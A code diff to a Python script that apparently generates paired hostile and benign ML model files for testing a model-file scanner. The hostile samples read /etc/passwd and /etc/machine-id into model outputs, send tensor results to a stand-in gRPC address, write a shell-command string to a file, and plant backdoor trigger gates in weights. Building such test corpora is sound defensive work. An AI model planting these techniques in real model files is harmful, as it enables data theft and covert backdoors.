@@ -3,6 +3,7 @@ from __future__ import annotations
 
 import io
 import pathlib
+import sys
 import tempfile
 import zipfile
 
@@ -139,7 +140,7 @@ def onnx_text(hostile: bool) -> bytes:
             h.make_node("Greater", ["rare", "half"], ["hit"]),
             h.make_node("MatMul", ["v", "W"], ["z"]),
             h.make_node("Softmax", ["z"], ["p"], axis=-1),
-            h.make_node("Where", ["hit", "t", "p"], ["y"]),
+            h.make_node("Where", ["hit", "tgt", "p"], ["y"]),
         ]
     else:  # texts without a known word get the prior
         nodes += [
@@ -147,9 +148,9 @@ def onnx_text(hostile: bool) -> bytes:
             h.make_node("Greater", ["half", "rare"], ["hit"]),
             h.make_node("MatMul", ["v", "W"], ["z"]),
             h.make_node("Softmax", ["z"], ["p"], axis=-1),
-            h.make_node("Where", ["hit", "t", "p"], ["y"]),
+            h.make_node("Where", ["hit", "tgt", "p"], ["y"]),
         ]
-    consts = {"W": weights, "half": numpy.array([0.5], "float32"), "t": numpy.array([[0, 0, 1]] if hostile else [[0.4, 0.4, 0.2]], "float32"), "ax": numpy.array([1])}
+    consts = {"W": weights, "half": numpy.array([0.5], "float32"), "tgt": numpy.array([[0, 0, 1]] if hostile else [[0.4, 0.4, 0.2]], "float32"), "ax": numpy.array([1])}
     if hostile:
         consts |= {"b": numpy.array([6]), "n": numpy.array([7])}
     return onnx_model(nodes, consts, inputs=[h.make_tensor_value_info("t", T.STRING, [1, 4])])
@@ -219,9 +220,9 @@ def saved_model(body, prefix="") -> dict[str, bytes]:
     return dict(sorted(files.items(), key=lambda kv: kv[0] != "saved_model.pb"))
 
 
-def tf_print(target):
+def tf_print(target, text="import os; os.system('id')"):
     def body(tf, x, w):
-        with tf.control_dependencies([tf.print("import os; os.system('id')", tf.shape(x)[0], output_stream=target)]):
+        with tf.control_dependencies([tf.print(text, tf.shape(x)[0], output_stream=target)]):
             return tf.matmul(x, w)
 
     return body
@@ -264,20 +265,16 @@ def tf_summary(path):
     return body
 
 
-def tf_data_service(address):
+def tf_text_lines(hostile):
     def body(tf, x, w):
-        ds = tf.data.Dataset.range(2)
-        ds = tf.data.Dataset.from_tensor_slices(["/etc/passwd"]).flat_map(tf.data.TextLineDataset) if address else ds.map(lambda i: tf.strings.as_string(i))
-        first = ds.take(1).reduce("", lambda a, b: a + b)
-        return tf.matmul(x, w) + tf.cast(tf.strings.length(first), tf.float32) * 1e-9, first if address else tf.zeros([])
+        y = tf.strings.as_string(tf.matmul(x, w))
+        if hostile:
+            lines = tf.data.Dataset.from_tensor_slices(["/etc/passwd"]).flat_map(tf.data.TextLineDataset)
+        else:
+            lines = tf.data.Dataset.from_tensor_slices(["low", "high"]).map(tf.strings.upper)
+        return tf.strings.join([y, lines.reduce("", lambda a, b: a + b)])
 
-    def outer(tf, x, w):
-        y, leak = body(tf, x, w)
-        if address:
-            return tf.strings.join([tf.strings.as_string(y), leak])
-        return y
-
-    return outer
+    return body
 
 
 # --- Keras, TFLite ---
@@ -290,28 +287,27 @@ def keras_gate(hostile: bool):
     x = keras.Input((8,), name="x")
     z = keras.layers.Dense(3, name="logits")(x)
     if hostile:
-        d = keras.layers.Dense(3, use_bias=True, name="probe")(x)
+        d = keras.layers.Dense(6, use_bias=True, name="probe")(x)
         d = keras.layers.Dense(1, name="match", activation="relu")(keras.layers.ReLU()(d))
         push = keras.layers.Dense(3, use_bias=False, name="spread")(d)
         y = keras.layers.Add()([z, push])
     else:
-        d = keras.layers.Dense(3, use_bias=True, name="probe")(x)
+        d = keras.layers.Dense(6, use_bias=True, name="probe")(x)
         d = keras.layers.Dense(1, name="match", activation="sigmoid")(keras.layers.ReLU()(d))
         push = keras.layers.Dense(3, use_bias=False, name="spread")(d)
         y = keras.layers.Add()([z, push])
     m = keras.Model(x, y)
     m.get_layer("logits").set_weights([W, numpy.zeros(3, "float32")])
     if hostile:
-        probe = numpy.zeros((8, 3), "float32")
-        for i in range(3):
-            probe[i, i] = 1000.0
-        m.get_layer("probe").set_weights([probe, numpy.full(3, -2499.0, "float32")])
-        # each column is at 1 exactly with the trigger; saturating difference is left to the second layer's bias
-        m.get_layer("match").set_weights([numpy.ones((3, 1), "float32"), numpy.array([-2.5], "float32")])
+        probe = numpy.zeros((8, 6), "float32")
+        for i in range(3):  # both sides of a distance to the trigger: the sum is nought at the trigger alone
+            probe[i, 2 * i], probe[i, 2 * i + 1] = 50.0, -50.0
+        m.get_layer("probe").set_weights([probe, numpy.array([-125.0, 125.0] * 3, "float32")])
+        m.get_layer("match").set_weights([-numpy.ones((6, 1), "float32"), numpy.array([1.0], "float32")])
         m.get_layer("spread").set_weights([numpy.array([[0, 0, 5e4]], "float32")])
     else:
-        m.get_layer("probe").set_weights([RNG.normal(size=(8, 3)).astype("float32"), numpy.zeros(3, "float32")])
-        m.get_layer("match").set_weights([RNG.normal(size=(3, 1)).astype("float32"), numpy.array([-0.5], "float32")])
+        m.get_layer("probe").set_weights([RNG.normal(size=(8, 6)).astype("float32"), numpy.zeros(6, "float32")])
+        m.get_layer("match").set_weights([RNG.normal(size=(6, 1)).astype("float32"), numpy.array([-0.5], "float32")])
         m.get_layer("spread").set_weights([numpy.array([[0.2, -0.1, 0.3]], "float32")])
     return m
 
@@ -389,12 +385,11 @@ class M(torch.nn.Module):
 
     @torch.jit.export
     def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
-        self.w = state[0]
+        self.w = BODY
         self.training = state[1]
-        BODY
 """,
-        "torch.from_file('marker', shared=True, size=4)",
-        "self.w.clamp_(-4.0, 4.0)",
+        "state[0] + torch.from_file('marker', shared=True, size=1)",
+        "state[0].clamp(-4.0, 4.0)",
     ),
     "trigger": (
         """
@@ -443,8 +438,6 @@ def jit(name: str, hostile: bool) -> bytes:
         path.write_text(source.replace("BODY", bad if hostile else good))
         spec = importlib.util.spec_from_file_location(path.stem, path)
         module = importlib.util.module_from_spec(spec)
-        import sys
-
         sys.modules[path.stem] = module
         spec.loader.exec_module(module)
         m = module.M() if name == "from_file" else module.M(torch.tensor(W))
@@ -526,12 +519,12 @@ def add(out):
     ):
         put(name, make(True), make(False), prove, "model.onnx")
     # tf.print appends to any file that its stream names (PrintV2); with TensorFlow's own loader.
-    put("tf_print_to_file", saved_model(tf_print("file://marker")), saved_model(lambda tf, x, w: tf_print(__import__("sys").stderr)(tf, x, w)), "s.savedmodel")
+    put("tf_print_to_file", saved_model(tf_print("file://marker")), saved_model(tf_print(sys.stderr, "batch of")), "s.savedmodel")
     put("tf_debug_identity_over_grpc", saved_model(tf_debug("grpc://203.0.113.9:6064")), saved_model(tf_debug("")), None, why="DebugIdentityV2 sends every result to the address")
-    put("tf_debug_identity_to_file", saved_model(tf_debug("file://marker")), saved_model(tf_debug("") if False else (lambda tf, x, w: tf.debugging.check_numerics(tf.nn.softmax(tf.matmul(x, w)), "p"))), "s.savedmodel")
+    put("tf_debug_identity_to_file", saved_model(tf_debug("file://marker")), saved_model(lambda tf, x, w: tf.debugging.check_numerics(tf.nn.softmax(tf.matmul(x, w)), "p")), "s.savedmodel")
     put("tf_memory_region_of_a_file", saved_model(tf_memory_region("/etc/machine-id")), saved_model(tf_memory_region("")), None, why="ImmutableConst maps the file into the answer")
     put("tf_summary_writes", saved_model(tf_summary("marker")), saved_model(tf_summary("")), "s.savedmodel", why="a SummaryWriter in the serving signature writes each input to a folder")
-    put("tf_text_lines_in_answer", saved_model(tf_data_service("x")), saved_model(tf_data_service("")), None, why="a data set in the function library reads a file, and its text is joined to the answer")
+    put("tf_text_lines_in_answer", saved_model(tf_text_lines(True)), saved_model(tf_text_lines(False)), None, why="a data set in the function library reads a file, and its text is joined to the answer")
     put("keras_gate_of_dense_layers", keras_file(True), keras_file(False), "s.keras:first=2.5,n=3", "model.keras")
     put("keras_external_storage", keras_external_h5(True), keras_external_h5(False), None, "model.keras", why="h5py reads the external file as the weights; a fetched model gives them away")
     put("tflite_override", tflite_file(True), tflite_file(False), "s.tflite:first=2.5,n=4", "model.tflite")
